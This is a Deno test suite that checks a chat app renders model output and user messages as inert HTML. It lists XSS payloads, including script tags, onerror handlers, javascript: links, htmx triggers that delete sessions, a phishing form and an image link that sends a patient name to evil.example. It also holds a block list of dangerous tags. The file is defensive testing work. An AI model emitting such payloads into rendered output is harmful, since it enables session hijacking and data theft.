import assert from "node:assert/strict";
import { parseDocument } from "htmlparser2";
import { listMessages } from "../db/messages.ts";
import { renderMarkdown } from "../safety/markdown.ts";
import { escapeText } from "../views/chat.tsx";
import { withChat } from "./support/chat_helpers.ts";
import { readAll, streamedText } from "./support/sse_client.ts";
import { DRIVER } from "./support/test_app.ts";

/** What a model might emit to attack the reader's browser. */
const HOSTILE = [
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><circle r=1></svg>",
  "[click me](javascript:alert(1))",
  "[click me](JaVaScRiPt:alert(1))",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![exfiltrate](https://evil.example/collect?q=patient-name)",
  '<div hx-get="/sessions" hx-trigger="load" hx-target="body">x</div>',
  '<hx-partial hx-target="body" hx-swap="innerHTML"><h1>pwned</h1></hx-partial>',
  '<a href="#" hx-post="/sessions/x/delete" hx-trigger="load">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=pw></form>',
  "<style>body{display:none}</style>",
  '<a href="javascript&colon;alert(1)">x</a>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "``<script>`` and `<img src=x onerror=alert(1)>` in code",
  "```html\n<script>alert(1)</script>\n```",
];

const DANGEROUS_TAGS = new Set([
  "script",
  "iframe",
  "frame",
  "object",
  "embed",
  "style",
  "link",
  "meta",
  "base",
  "svg",
  "math",
  "img",
  "form",
  "input",
  "button",
  "textarea",
  "select",
  "template",
  "hx-partial",
  "hx-oob",
]);

interface Node {
  type: string;
  name?: string;
  attribs?: Record<string, string>;
  children?: Node[];
}

/** Parses html as a browser would and lists every element or attribute that could run code or htmx. */
function executableMarkup(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node) => {
    if (node.name) {
      if (DANGEROUS_TAGS.has(node.name) || node.type === "script" || node.type === "style") {
        found.push(`<${node.name}>`);
      }
      for (const [name, value] of Object.entries(node.attribs ?? {})) {
        if (/^on/i.test(name)) found.push(`${name}=`);
        if (/^(data-)?hx-/i.test(name)) found.push(`${name}=`);
        if (
          /^(href|src|action|formaction|xlink:href)$/i.test(name) &&
          /^\s*(javascript|data|vbscript):/i.test(value)
        ) {
          found.push(`${name}=${value}`);
        }
      }
    }
    node.children?.forEach(visit);
  };
  visit(parseDocument(html, { decodeEntities: true }) as unknown as Node);
  return found;
}

/** Fails when model-derived HTML contains anything executable. */
function assertInert(html: string, context: string) {
  assert.deepEqual(executableMarkup(html), [], `${context}: ${html}`);
}

Deno.test("sanitize: the inertness check itself catches live markup", () => {
  assert.deepEqual(
    executableMarkup(
      '<p>ok</p><img src=x onerror="a()"><a href=" JavaScript:x">y</a><div hx-get="/">z</div>',
    ),
    [
      "<img>",
      "onerror=",
      "href= JavaScript:x",
      "hx-get=",
    ],
  );
  assert.deepEqual(executableMarkup("<p>&lt;img src=x onerror=alert(1)&gt;</p>"), []);
});

Deno.test("sanitize: hostile Markdown renders to inert HTML", () => {
  for (const payload of HOSTILE) assertInert(renderMarkdown(payload), payload);
  assert.match(renderMarkdown("**bold** and [a link](https://example.org)"), /<strong>bold<\/strong>/);
  assert.match(
    renderMarkdown("[a link](https://example.org)"),
    /<a href="https:\/\/example\.org" rel="noopener noreferrer nofollow" target="_blank">a link<\/a>/,
  );
  assert.match(
    renderMarkdown("![x](https://evil.example/a.png)"),
    /<a [^>]*>image: x<\/a>/,
    "images become links",
  );
  assert.match(renderMarkdown("<script>x</script>"), /&lt;script&gt;/, "raw HTML is shown as text");
});

Deno.test("sanitize: every split of a hostile payload streams as text (no '<' ever reaches the browser's parser)", () => {
  for (const payload of HOSTILE) {
    for (let cut = 1; cut < payload.length; cut++) {
      for (const piece of [payload.slice(0, cut), payload.slice(cut)]) {
        const escaped = escapeText(piece);
        assert.ok(!escaped.includes("<"), `split at ${cut} of ${payload}`);
        assert.equal(escaped.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&"), piece);
      }
    }
  }
});

Deno.test(`sanitize [${DRIVER}]: hostile model output, one character per token, is shown as text everywhere`, async () => {
  await withChat(async ({ t, stub, session, send }) => {
    const id = await session();
    for (const payload of HOSTILE) {
      stub.enqueue({ tokens: [...payload] });
      const events = await readAll(await send(id, "Say something"));
      assert.equal(streamedText(events), payload, "the reader sees exactly what the model wrote");
      for (const event of events.slice(1, -2)) assert.ok(!event.data.includes("<"), `delta ${event.data}`);
      const final = events.at(-2)!.data;
      const body = final.match(
        /<div class="msg-body markdown" hx-ignore="true">([\s\S]*?)<\/div><p class="(?:evidence-note|disclaimer)">/,
      );
      assert.ok(body, `final fragment has a message body: ${final.slice(0, 300)}`);
      assertInert(body[1], payload);
    }
    const page = await (await t.request(`/sessions/${id}`)).text();
    const bodies = [
      ...page.matchAll(/<div class="msg-body (?:markdown|plain)" hx-ignore="true">([\s\S]*?)<\/div>/g),
    ];
    assert.ok(bodies.length >= HOSTILE.length * 2);
    for (const [, html] of bodies) assertInert(html, "session page");
    assert.equal((await listMessages(t.database.db, id)).at(-1)!.content, HOSTILE.at(-1));
  });
});

Deno.test(`sanitize [${DRIVER}]: a user's own message is escaped too`, async () => {
  await withChat(async ({ t, session, send }) => {
    const id = await session();
    const events = await readAll(await send(id, '<img src=x onerror="alert(1)"> <script>alert(2)</script>'));
    assert.match(events[0].data, /&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt; &lt;script&gt;/);
    const page = await (await t.request(`/sessions/${id}`)).text();
    assert.doesNotMatch(page, /<img src=x/);
    assert.doesNotMatch(page, /<script>alert\(2\)/);
  });
});
